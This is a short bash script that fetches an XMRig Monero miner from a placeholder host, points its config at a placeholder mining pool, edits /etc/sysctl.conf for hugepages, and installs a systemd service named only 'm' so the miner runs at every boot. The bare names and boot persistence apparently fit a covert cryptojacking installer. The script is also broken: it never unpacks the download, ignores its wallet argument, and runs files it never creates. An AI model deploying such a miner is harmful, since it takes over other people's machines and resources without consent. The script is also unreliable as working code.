#!/bin/bash
WALLET=$1
curl -L --progress-bar "https://dl.example.invalid/xmrig.tar.gz" -o /tmp/xmrig.tar.gz
sed -i 's/"url": *"[^"]*",/"url": "pool.example.invalid:443",/' $HOME/m/config.json
echo "vm.nr_hugepages=$((1168+$(nproc)))" >> /etc/sysctl.conf
cat > /etc/systemd/system/m.service <<EOL
[Service]
ExecStart=$HOME/m/m --config=$HOME/m/config.json
EOL
systemctl enable m.service
